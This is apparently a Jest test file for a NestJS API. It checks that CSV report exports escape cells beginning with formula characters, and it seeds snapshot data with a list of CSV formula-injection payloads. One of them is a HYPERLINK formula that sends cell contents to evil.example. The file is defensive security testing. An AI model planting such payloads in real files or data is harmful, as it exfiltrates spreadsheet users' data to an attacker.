import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { NestExpressApplication } from '@nestjs/platform-express';
import { spreadsheetSafe } from '@slussen/core';
import { ReportBuilderService } from '@slussen/reporting';
import { IdentityFactory, type TestUser } from '@slussen/testing';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { createApiApp } from '../../api-app.js';

// Issue 12, finding 12: no cell of a CSV the API writes starts a spreadsheet formula.
const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('CSV the API writes', () => {
  let app: NestExpressApplication;
  let agency: TestUser;
  let snapshotId: string;

  beforeAll(async () => {
    app = await createApiApp();
    const factory = new IdentityFactory(app);
    agency = await factory.member((await factory.organization('agency')).id, 'member');
    const db = app.get(DataSource);
    const from = new Date(Date.UTC(2024, 0, 1) + Math.floor(Math.random() * 500_000) * 60_000);
    const [run] = await db.query(
      `INSERT INTO report_runs (kind, scope, period_start, period_end) VALUES ('on-demand', 'platform', $1, $2) RETURNING id`,
      [from, new Date(from.getTime() + 86_400_000)],
    );
    await app.get(ReportBuilderService, { strict: false }).build(run.id);
    snapshotId = (await db.query('SELECT id FROM report_snapshots WHERE run_id = $1', [run.id]))[0].id;
    // Whatever the breakdowns' keys come to hold (they are data, not code), the CSV must stay inert.
    const domain = Object.fromEntries(HOSTILE.map((key) => [key, { placesOffered: -1 }]));
    await db.query(
      `UPDATE report_snapshots SET breakdowns = jsonb_set(breakdowns::jsonb, '{domain}', $2::jsonb) WHERE id = $1`,
      [snapshotId, JSON.stringify(domain)],
    );
  });
  afterAll(() => app.close());

  it('prefixes a text cell that starts with = + - @, tab or CR with an apostrophe', async () => {
    const response = await request(app.getHttpServer())
      .get(`/api/v1/reports/${snapshotId}.csv`)
      .set('Authorization', `Bearer ${agency.token}`);
    expect(response.status).toBe(200);
    for (const hostile of HOSTILE) {
      expect(response.text).toContain(`'${hostile.split(',')[0]!.replace(/"/g, '""')}`);
    }
    const domainCells = response.text
      .split('\n')
      .filter((line) => line.startsWith('domain,'))
      .map((line) => line.slice('domain,'.length).replace(/^"/, ''));
    expect(domainCells.length).toBeGreaterThan(0);
    for (const cell of domainCells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers, negative ones included.
    expect(response.text).toMatch(/,placesOffered,,-1,/);
  });

  it('leaves ordinary text alone', () => {
    expect(spreadsheetSafe('health')).toBe('health');
    expect(spreadsheetSafe('Vård & omsorg')).toBe('Vård & omsorg');
    expect(spreadsheetSafe('=1+1')).toBe("'=1+1");
  });
});
